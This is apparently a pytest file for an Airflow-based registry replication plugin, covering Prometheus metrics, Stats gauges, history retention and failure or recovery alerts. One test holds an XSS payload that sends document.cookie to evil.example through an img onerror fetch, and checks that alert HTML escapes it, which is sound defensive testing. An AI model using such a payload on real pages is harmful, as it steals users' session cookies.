"""Operating it: Prometheus metrics, and alerts through the configured notifier.

The DAGs run with dag.test() against real registries; the primary's notifications reach the
webhook over HTTP; the metrics come from the plugin's real app, parsed with prometheus_client.
"""

from __future__ import annotations

import datetime as dt
import json
import time
from collections.abc import Iterator
from typing import Any

import pytest
import sqlalchemy as sa
from airflow.sdk import BaseNotifier
from airflow.sdk._shared.observability.metrics.base_stats_logger import NoStatsLogger
from fastapi.testclient import TestClient
from prometheus_client.parser import text_string_to_metric_families

from registry_replication.outcomes import EventStatus
from registry_replication.store import Store
from registry_replication.store.history import TaskTry
from registry_replication.store.queue import Event
from registry_replication.store.schema import copied_bytes, deliveries, events, runs
from registry_replication.transport.client import RegistryClient
from replication_harness import images
from replication_harness.dag_runs import load_dags, run, wait_for_events
from replication_harness.skopeo import skopeo_raw

METRICS_TOKEN = "scrape-Token-1"


class RecordingNotifier(BaseNotifier):
    """A notifier as the SMTP or Slack ones are: its fields are templates over the context."""

    template_fields = ("subject", "message")
    calls: list[dict[str, Any]] = []

    def __init__(self, subject: str, message: str) -> None:
        super().__init__()
        self.subject, self.message = subject, message

    def notify(self, context: Any) -> None:
        dag_run = context["dag_run"]  # a DagRun, or its JSON in a deadline callback
        RecordingNotifier.calls.append(
            {
                "subject": self.subject,
                "message": self.message,
                "run_id": dag_run["dag_run_id"] if isinstance(dag_run, dict) else dag_run.run_id,
            }
        )


class RecordingStatsLogger(NoStatsLogger):
    """Airflow's Stats backend slot (StatsD or OpenTelemetry in production), recording."""

    def __init__(self) -> None:
        self.sent: list[tuple[str, str, Any, dict[str, Any]]] = []

    def incr(self, stat: str, count: int = 1, rate: float = 1, *, tags=None) -> None:
        self.sent.append(("incr", stat, count, tags or {}))

    def gauge(
        self, stat: str, value: float, rate: float = 1, delta: bool = False, *, tags=None
    ) -> None:
        self.sent.append(("gauge", stat, value, tags or {}))

    def timing(self, stat: str, dt: Any, *, tags=None) -> None:
        self.sent.append(("timing", stat, dt, tags or {}))


@pytest.fixture
def stats() -> Iterator[RecordingStatsLogger]:
    """Airflow's ``Stats``, initialized as the task runner does, with a recording backend."""
    from airflow.sdk._shared.observability.metrics import stats as module

    saved = module._factory, module._backend, module._export_legacy_names
    backend = RecordingStatsLogger()
    module.initialize(factory=lambda: backend, export_legacy_names=False)
    yield backend
    module._factory, module._backend, module._export_legacy_names = saved


@pytest.fixture
def app(store, airflow_db):
    from registry_replication.airflow.status_page import create_app

    return TestClient(create_app(store))


HERE = (("secondary", "registry_secondary"),)  # the one secondary's series


def scrape(app: TestClient) -> dict[tuple[str, tuple[tuple[str, str], ...]], float]:
    response = app.get("/metrics", headers={"Authorization": f"Bearer {METRICS_TOKEN}"})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/plain; version=")
    return {
        (s.name, tuple(sorted(s.labels.items()))): s.value
        for family in text_string_to_metric_families(response.text)
        for s in family.samples
    }


def test_metrics_after_pushes_a_failed_layer_and_a_reconcile(
    airflow_db,
    connections,
    store,
    notifying_primary,
    app,
    secondary_reader,
    monkeypatch,
    stats,
):
    # Without the variable there is no endpoint; with it, a wrong token is refused.
    monkeypatch.delenv("REGISTRY_REPLICATION_METRICS_TOKEN", raising=False)
    assert app.get("/metrics").status_code == 404
    monkeypatch.setenv("REGISTRY_REPLICATION_METRICS_TOKEN", METRICS_TOKEN)
    assert app.get("/metrics").status_code == 401
    assert app.get("/metrics", headers={"Authorization": "Bearer wrong"}).status_code == 401
    assert app.get("/metrics", headers={"Authorization": METRICS_TOKEN}).status_code == 401

    # A primary that notifies the webhook (the connections fixture's primary is replaced).
    primary = notifying_primary
    monkeypatch.setenv("AIRFLOW__REGISTRY_REPLICATION__EVENT_MAX_ATTEMPTS", "1")
    writer = RegistryClient(primary.client_config(), writable=True)
    ok, broken, new = (images.ImageFactory(layer_size=32 * 1024).make() for _ in range(3))
    images.push(writer, "group/ok", ok, ["v1", "v2"])
    images.push(writer, "group/app", broken, ["broken"])
    rotten = broken.blobs[-1]
    primary.blob_path(rotten.digest).write_bytes(b"\0" * rotten.size)
    wait_for_events(store, {"v1", "v2", "broken"})

    # The event path: group/ok replicates, group/app's event fails its one attempt.
    assert run("registry_events").state == "failed"
    assert {e["tag"]: e["status"] for e in store.queue.events()} == {
        "v1": "done",
        "v2": "done",
        "broken": "failed",
    }

    # One more push whose event stays pending, and a rejected event (issue 10's webhook marks
    # names out of grammar so; here it is written as that webhook writes it).
    images.push(writer, "group/new", new, ["v1"])
    deadline = time.monotonic() + 30
    while not [e for e in store.queue.events() if e["repository"] == "group/new"]:
        assert time.monotonic() < deadline
        time.sleep(0.1)
    store.queue.add(
        [
            Event(
                "bad-name",
                "push",
                "Group/BAD",
                "v1",
                None,
                None,
                dt.datetime.now(dt.UTC),
                status=EventStatus.REJECTED,
                error="repository name out of grammar",
            )
        ],
        ["registry_secondary"],
    )

    # What the reconcile must copy: every blob the secondary lacks, but the rotten one.
    missing = [
        b
        for repo, img in (("group/app", broken), ("group/new", new))
        for b in img.blobs
        if b.digest != rotten.digest and secondary_reader.blob_size(repo, b.digest) is None
    ]
    assert run("registry_reconcile", {"prune": False}).state == "failed"
    assert run("registry_sync", {"repositories": ["group/ok"]}).state == "success"

    m = scrape(app)
    on = HERE  # every per-secondary series names its secondary
    assert m[("registry_replication_events_pending", on)] == 1  # group/new:v1
    assert m[("registry_replication_oldest_pending_event_age_seconds", on)] > 0
    assert {
        tuple(dict(k[1]).values()): v
        for k, v in m.items()
        if k[0] == "registry_replication_events_total"
    } == {
        ("done", "registry_secondary"): 2,
        ("failed", "registry_secondary"): 1,
        ("rejected", ""): 1,  # no secondary's
    }
    assert {
        dict(k[1])["state"]: v
        for k, v in m.items()
        if k[0] == "registry_replication_repositories" and dict(k[1])["secondary"] == on[0][1]
    } == {
        "synced": 2,
        "pending": 0,
        "failed": 1,
        "damaged": 0,
        "never": 0,
    }
    # The repositories replicated whole by their first run count as verified at blobs.
    assert {k[1] for k in m if k[0] == "registry_replication_last_verified_timestamp_seconds"} == {
        (("level", "blobs"), *on)
    }
    assert {dict(k[1])["side"]: v for k, v in m.items() if k[0] == "registry_replication_tags"} == {
        "primary": 4,
        "secondary": 3,
    }
    # Every blob byte copied, by the event path (group/ok, and group/app's good blobs) and by
    # the reconcile (the rest): all blobs of the three images but the rotten one.
    copied = sum(
        b.size for img in (ok, broken, new) for b in img.blobs if b.digest != rotten.digest
    )
    assert copied > sum(b.size for b in missing) > 0
    assert m[("registry_replication_bytes_copied_total", on)] == copied
    last_success = {
        k[1][0][1]: v
        for k, v in m.items()
        if k[0] == "registry_replication_last_success_timestamp_seconds"
    }
    assert list(last_success) == ["registry_sync"]  # the events run and the reconcile failed
    assert time.time() - 120 < last_success["registry_sync"] <= time.time()
    # Two events acknowledged, each between its push and the scrape.
    assert m[("registry_replication_push_to_replica_seconds_count", on)] == 2
    assert 0 < m[("registry_replication_push_to_replica_seconds_sum", on)] < 120
    assert m[("registry_replication_push_to_replica_seconds_bucket", (("le", "+Inf"), *on))] == 2
    assert m[("registry_replication_push_to_replica_seconds_bucket", (("le", "3600.0"), *on))] == 2

    # Every API server reports the same: a second app over the same store.
    from registry_replication.airflow.status_page import create_app

    again = scrape(TestClient(create_app(Store(store.url))))
    age = ("registry_replication_oldest_pending_event_age_seconds", on)
    assert again.pop(age) >= m.pop(age) and again == m

    # The same figures went to Airflow's Stats from the tasks (the sync's report sent last).
    gauges = {
        (stat, tuple(tags.items())): value
        for kind, stat, value, tags in stats.sent
        if kind == "gauge"
    }
    assert gauges[("registry_replication.events_pending", on)] == 1
    assert gauges[("registry_replication.events_total", (("outcome", "rejected"),))] == 1
    assert gauges[("registry_replication.repositories", (*on, ("state", "failed")))] == 1
    assert gauges[("registry_replication.tags", (*on, ("side", "secondary")))] == 3
    assert gauges[("registry_replication.bytes_copied_total", on)] == copied
    assert (
        sum(
            count
            for kind, stat, count, _ in stats.sent
            if (kind, stat) == ("incr", "registry_replication.bytes_copied")
        )
        == copied
    )
    timings = [
        value
        for kind, stat, value, _ in stats.sent
        if (kind, stat) == ("timing", "registry_replication.push_to_replica")
    ]
    assert len(timings) == 2 and all(t.total_seconds() > 0 for t in timings)


def test_bytes_copied_counts_the_event_path(
    airflow_db,
    connections,
    store,
    notifying_primary,
    app,
    secondary,
    monkeypatch,
    stats,
):
    """registry_events' copies count in registry_replication_bytes_copied_total, exactly."""
    monkeypatch.setenv("REGISTRY_REPLICATION_METRICS_TOKEN", METRICS_TOKEN)
    primary = notifying_primary
    writer = RegistryClient(primary.client_config(), writable=True)
    factory = images.ImageFactory(layer_size=48 * 1024)
    first, second = factory.make(unique_layers=2), factory.make(unique_layers=1)
    assert scrape(app)[("registry_replication_bytes_copied_total", HERE)] == 0

    images.push(writer, "group/app", first, ["v1"])
    wait_for_events(store, {"v1"})
    assert run("registry_events").state == "success"
    # The image's blob bytes, as its manifest on the secondary declares them (skopeo's read).
    manifest = json.loads(skopeo_raw(secondary, "group/app", "v1"))
    declared = manifest["config"]["size"] + sum(layer["size"] for layer in manifest["layers"])
    assert len(manifest["layers"]) == 4 and declared > 4 * 48 * 1024
    assert scrape(app)[("registry_replication_bytes_copied_total", HERE)] == declared

    # A second image on the same base: only its own config and top layer cross.
    images.push(writer, "group/app", second, ["v2"])
    wait_for_events(store, {"v1", "v2"})
    assert run("registry_events").state == "success"
    manifest = json.loads(skopeo_raw(secondary, "group/app", "v2"))
    own = manifest["config"]["size"] + manifest["layers"][-1]["size"]
    m = scrape(app)
    assert m[("registry_replication_bytes_copied_total", HERE)] == declared + own
    assert (
        sum(
            count
            for kind, stat, count, _ in stats.sent
            if (kind, stat) == ("incr", "registry_replication.bytes_copied")
        )
        == declared + own
    )
    with store.engine.connect() as conn:
        rows = conn.execute(
            sa.select(copied_bytes.c.dag_id, copied_bytes.c.task_id, copied_bytes.c.bytes).order_by(
                copied_bytes.c.id
            )
        ).all()
    assert [tuple(r) for r in rows] == [
        ("registry_events", "replicate_events", declared),
        ("registry_events", "replicate_events", own),
    ]


def test_a_report_prunes_the_store_history_and_the_counters_hold(
    airflow_db, connections, store, primary_writer, app, monkeypatch, caplog
):
    """The reconcile's report applies history_retention_days next to the run folders'."""
    monkeypatch.setenv("REGISTRY_REPLICATION_METRICS_TOKEN", METRICS_TOKEN)
    monkeypatch.setenv("AIRFLOW__REGISTRY_REPLICATION__HISTORY_RETENTION_DAYS", "30")
    long_ago = dt.datetime.now(dt.UTC) - dt.timedelta(days=40)
    store.history.record_run("registry_reconcile", "old", "success", {"bytes copied": 12345})
    store.history.record_copied_bytes(
        TaskTry("registry_reconcile", "old", "copy_blobs", 0), "registry_secondary", 12345
    )
    store.queue.add(
        [Event("old-event", "push", "group/app", "v0", None, None, long_ago)],
        ["registry_secondary"],
    )
    owner, _ = store.queue.claim("registry_secondary")
    store.queue.complete("registry_secondary", owner, ["old-event"])
    with store.engine.begin() as conn:
        conn.execute(runs.update().values(finished_at=long_ago))
        conn.execute(copied_bytes.update().values(recorded_at=long_ago))
        conn.execute(events.update().values(updated_at=long_ago))
        conn.execute(deliveries.update().values(updated_at=long_ago))
    before = scrape(app)
    done = ("registry_replication_events_total", (("outcome", "done"), *HERE))
    assert before[("registry_replication_bytes_copied_total", HERE)] == 12345
    assert before[done] == 1

    img = images.ImageFactory(layer_size=16 * 1024).make()
    images.push(primary_writer, "group/app", img, ["v1"])
    caplog.set_level("INFO", logger="registry_replication.airflow")
    assert run("registry_reconcile").state == "success"

    assert (
        "from the replication store, 1 runs, 1 events, 1 deliveries, 1 copied bytes records "
        "older than 30 days" in caplog.text
    )
    with store.engine.connect() as conn:
        kept = conn.execute(sa.select(runs.c.run_id)).scalars().all()
        assert len(kept) == 1 and kept != ["old"]  # this run's, recorded before the prune
        assert conn.execute(sa.select(sa.func.count()).select_from(events)).scalar() == 0
        assert conn.execute(sa.select(copied_bytes.c.bytes)).scalars().all() == [
            sum(b.size for b in img.blobs)
        ]
    after = scrape(app)
    assert after[("registry_replication_bytes_copied_total", HERE)] == 12345 + sum(
        b.size for b in img.blobs
    )
    assert after[done] == 1  # carried as registry_secondary's


def test_retention_is_a_teardown_after_the_report_and_the_graph_shows_the_reports_inputs(
    airflow_db,
):
    for dag_id in ("registry_reconcile", "registry_sync"):
        dag = load_dags().get_dag(dag_id)
        retention = dag.get_task("retention")
        assert retention.is_teardown and retention.upstream_task_ids == {"report"}
        assert not retention.on_failure_fail_dagrun  # the run's state is the report's
        # Every task whose XCom verify and report read is drawn as their input.
        group = "registry_secondary"
        assert {
            f"{group}.{task}"
            for task in (
                "diff",
                "snapshot_secondary",
                "plan",
                "push_manifests",
                "prune_tags",
                "verify_closure",
            )
        } <= dag.get_task(f"{group}.verify").upstream_task_ids
        assert {
            "snapshot_primary",
            *(
                f"{group}.{task}"
                for task in (
                    "snapshot_secondary",
                    "plan",
                    "copy_blobs",
                    "push_manifests",
                    "prune_tags",
                    "verify_closure",
                    "verify",
                )
            ),
        } <= dag.get_task("report").upstream_task_ids


def test_a_failed_retention_leaves_a_successful_run_successful(
    airflow_db, connections, store, primary_writer, secondary_reader, monkeypatch
):
    from registry_replication.airflow import reconcile_report

    def broken(now: Any) -> Any:
        raise RuntimeError("the artifacts volume is read-only")

    monkeypatch.setattr(reconcile_report, "apply_retention", broken)
    img = images.ImageFactory(layer_size=16 * 1024).make()
    images.push(primary_writer, "group/app", img, ["v1"])
    result = run("registry_reconcile", {"prune": False})
    assert result.state == "success"
    assert result.get_task_instance("report").state == "success"
    assert result.get_task_instance("retention").state == "failed"
    assert secondary_reader.head_manifest("group/app", "v1").digest == img.digest


def test_a_history_retention_below_a_day_is_logged_and_prunes_nothing(store, monkeypatch, caplog):
    from registry_replication.airflow.run_folder import _prune_history

    store.history.record_copied_bytes(
        TaskTry("registry_reconcile", "old", "copy_blobs", 0), "registry_secondary", 12345
    )
    with store.engine.begin() as conn:
        conn.execute(
            copied_bytes.update().values(
                recorded_at=dt.datetime.now(dt.UTC) - dt.timedelta(days=40)
            )
        )
    monkeypatch.setenv("AIRFLOW__REGISTRY_REPLICATION__HISTORY_RETENTION_DAYS", "0.5")
    assert _prune_history() == "nothing (history_retention_days refused)"
    assert "history retention of 0.5 days is below the minimum of 1 day" in caplog.text
    assert "set [registry_replication] history_retention_days to 1 or more" in caplog.text
    with store.engine.connect() as conn:
        assert conn.execute(sa.select(copied_bytes.c.bytes)).scalars().all() == [12345]
    monkeypatch.setenv("AIRFLOW__REGISTRY_REPLICATION__HISTORY_RETENTION_DAYS", "30")
    assert _prune_history() == "1 copied bytes records older than 30 days"
    assert store.history.copied_bytes_total() == 12345


def test_notifier_on_failure_and_on_recovery_only(
    airflow_db, connections, store, primary, primary_writer, secondary_reader, monkeypatch
):
    monkeypatch.setenv("AIRFLOW__REGISTRY_REPLICATION__NOTIFIER", f"{__name__}.RecordingNotifier")
    monkeypatch.setenv(
        "AIRFLOW__REGISTRY_REPLICATION__NOTIFIER_KWARGS",
        '{"subject": "{{ replication_alert.subject }}", "message": "{{ replication_alert.text }}"}',
    )
    RecordingNotifier.calls.clear()
    img = images.ImageFactory().make()
    images.push(primary_writer, "group/app", img, ["v1"])
    rotten = img.blobs[-1]
    good = primary.blob_path(rotten.digest).read_bytes()
    primary.blob_path(rotten.digest).write_bytes(b"\0" * rotten.size)

    failed = run("registry_reconcile", {"prune": False})
    assert failed.state == "failed"
    [alert] = RecordingNotifier.calls
    assert alert["subject"] == (
        "[registry-replication] registry_reconcile failed on registry_secondary"
    )
    assert (
        f"registry_secondary: failed layer group/app@{rotten.digest} (DIGEST_INVALID)"
        in alert["message"]
    )
    assert alert["run_id"] == failed.run_id
    assert (
        f"/dags/registry_reconcile/runs/{failed.run_id.replace(':', '%3A').replace('+', '%2B')}"
        in alert["message"]
    )

    # Fixed at the source: the next run succeeds and says so, once.
    primary.blob_path(rotten.digest).write_bytes(good)
    recovered = run("registry_reconcile", {"prune": False})
    assert recovered.state == "success"
    assert secondary_reader.head_manifest("group/app", "v1").digest == img.digest
    assert [c["subject"] for c in RecordingNotifier.calls] == [
        "[registry-replication] registry_reconcile failed on registry_secondary",
        "[registry-replication] registry_reconcile recovered",
    ]
    assert RecordingNotifier.calls[1]["run_id"] == recovered.run_id

    # An ordinary success after that notifies nobody.
    assert run("registry_reconcile", {"prune": False}).state == "success"
    assert len(RecordingNotifier.calls) == 2
    assert [r["state"] for r in _outcomes(store)] == ["failed", "success", "success"]


def test_reconcile_deadline_alert(airflow_db, store, monkeypatch):
    """Airflow 3.3's DeadlineAlert, when configured: its callback notifies "overdue"."""
    from registry_replication.airflow import alerts

    assert load_dags().get_dag("registry_reconcile").deadline is None  # off by default
    monkeypatch.setenv("AIRFLOW__REGISTRY_REPLICATION__RECONCILE_DEADLINE_MINUTES", "90")
    [deadline] = _as_list(load_dags().get_dag("registry_reconcile").deadline)
    assert deadline.interval == dt.timedelta(minutes=90)
    assert deadline.callback.path == "registry_replication.airflow.alerts.deadline_missed"

    monkeypatch.setenv("AIRFLOW__REGISTRY_REPLICATION__NOTIFIER", f"{__name__}.RecordingNotifier")
    monkeypatch.setenv(
        "AIRFLOW__REGISTRY_REPLICATION__NOTIFIER_KWARGS",
        '{"subject": "{{ replication_alert.subject }}", "message": "{{ replication_alert.text }}"}',
    )
    RecordingNotifier.calls.clear()
    # The context Airflow's deadline handler passes: the run as JSON, and the deadline.
    alerts.deadline_missed(
        context={
            "dag_run": {
                "dag_id": "registry_reconcile",
                "dag_run_id": "scheduled__2026-11-30T01:00",
            },
            "deadline": {"id": "1", "deadline_time": "2026-11-30T02:30:00+00:00"},
        }
    )
    [alert] = RecordingNotifier.calls
    assert alert["subject"] == "[registry-replication] registry_reconcile has not succeeded in time"
    assert "/dags/registry_reconcile/runs/scheduled__2026-11-30T01%3A00" in alert["message"]


def _as_list(value: Any) -> list[Any]:
    return value if isinstance(value, list) else [value]


def _outcomes(store: Store) -> list[dict[str, Any]]:
    from registry_replication.store.schema import dag_outcomes

    with store.engine.connect() as conn:
        return [
            dict(r._mapping)
            for r in conn.execute(sa.select(dag_outcomes).order_by(dag_outcomes.c.id))
        ]


def test_the_alert_e_mail_example_escapes_what_registries_wrote(store, monkeypatch):
    """An error text comes from whatever answered at a registry's address: the README's
    ``html_content`` shows it as text, never as markup."""
    from registry_replication.airflow import alerts

    hostile = (
        "<img src=x onerror=\"fetch('//evil.example/'+document.cookie)\"> & "
        "</pre><script>alert(1)</script>"
    )
    store.queue.add(
        [Event("e1", "push", "group/app", "v1", None, None, dt.datetime.now(dt.UTC))],
        ["registry_secondary"],
    )
    owner, _ = store.queue.claim("registry_secondary")
    store.queue.retry_later(
        "registry_secondary",
        owner,
        ["e1"],
        f"get manifest: HTTP 400 MANIFEST_INVALID: {hostile}",
        max_attempts=1,
    )
    monkeypatch.setenv("AIRFLOW__REGISTRY_REPLICATION__NOTIFIER", f"{__name__}.RecordingNotifier")
    monkeypatch.setenv(
        "AIRFLOW__REGISTRY_REPLICATION__NOTIFIER_KWARGS",
        json.dumps(
            {
                "subject": "{{ replication_alert.subject }}",
                "message": "{{ replication_alert.html }}",
            }
        ),
    )  # the README's html_content
    RecordingNotifier.calls.clear()
    alerts.notify(
        {"dag_run": {"dag_run_id": "manual__1"}}, alerts.FAILED, "registry_events", "manual__1"
    )
    [alert] = RecordingNotifier.calls
    message = alert["message"]
    assert message.startswith("<pre>[registry-replication] registry_events failed\n")
    assert message.endswith("</pre>") and message.count("<") == 2  # <pre> and </pre> alone
    assert (
        "registry_secondary: failed event push group/app:v1: get manifest: HTTP 400 MANIFEST_INVALID: "
        "&lt;img src=x onerror=&#34;fetch(&#39;//evil.example/&#39;+document.cookie)&#34;&gt; "
        "&amp; &lt;/pre&gt;&lt;script&gt;alert(1)&lt;/script&gt;"
    ) in message


def test_an_alert_and_the_stats_name_each_secondary(store, monkeypatch, stats):
    """Two secondaries, a reconcile that failed on registry_eu only: the subject names it, each
    line starts with its secondary, and Airflow's ``Stats`` gauges carry the ``secondary`` tag."""
    from registry_replication.airflow import alerts

    monkeypatch.setenv(
        "AIRFLOW__REGISTRY_REPLICATION__SECONDARY_CONN_IDS", "registry_secondary,registry_eu"
    )
    digest = "sha256:" + "d" * 64
    store.history.record_run(
        "registry_reconcile",
        "manual__1",
        "failed",
        {"problems": ["registry_eu: 1 failed blobs"]},
        [
            {
                "repository": "group/app",
                "digest": digest,
                "code": "BLOB_UPLOAD_INVALID",
                "error": "HTTP 400 from the secondary",
                "task_id": "registry_eu.copy_blobs",
                "map_index": 0,
                "secondary": "registry_eu",
            }
        ],
    )
    store.state.set_repository_state(
        "registry_eu", [{"repository": "group/app", "state": "failed", "last_error": "HTTP 400"}]
    )
    store.state.set_repository_state(
        "registry_secondary", [{"repository": "group/app", "state": "synced"}]
    )
    store.queue.add(
        [Event("e1", "push", "group/app", "v1", None, None, dt.datetime.now(dt.UTC))],
        ["registry_secondary", "registry_eu"],
    )
    owner, _ = store.queue.claim("registry_eu")
    store.queue.fail("registry_eu", owner, ["e1"], "HTTP 400 MANIFEST_INVALID")

    alert = alerts.describe(alerts.FAILED, "registry_reconcile", "manual__1", store)
    assert alert["subject"] == "[registry-replication] registry_reconcile failed on registry_eu"
    assert alert["text"].splitlines()[1:-1] == [
        "Problems: registry_eu: 1 failed blobs",
        f"registry_eu: failed layer group/app@{digest} (BLOB_UPLOAD_INVALID): "
        "HTTP 400 from the secondary",
        "registry_eu: failing repositories: group/app",
        "registry_eu: failed event push group/app:v1: HTTP 400 MANIFEST_INVALID",
    ]

    alerts.send_stats(store)
    gauges = {
        (stat, tuple(tags.items())): value
        for kind, stat, value, tags in stats.sent
        if kind == "gauge"
    }
    assert gauges[("registry_replication.events_pending", (("secondary", "registry_eu"),))] == 0
    assert (
        gauges[("registry_replication.events_pending", (("secondary", "registry_secondary"),))] == 1
    )
    assert (
        gauges[
            (
                "registry_replication.repositories",
                (("secondary", "registry_eu"), ("state", "failed")),
            )
        ]
        == 1
    )
    assert (
        gauges[
            (
                "registry_replication.repositories",
                (("secondary", "registry_secondary"), ("state", "synced")),
            )
        ]
        == 1
    )
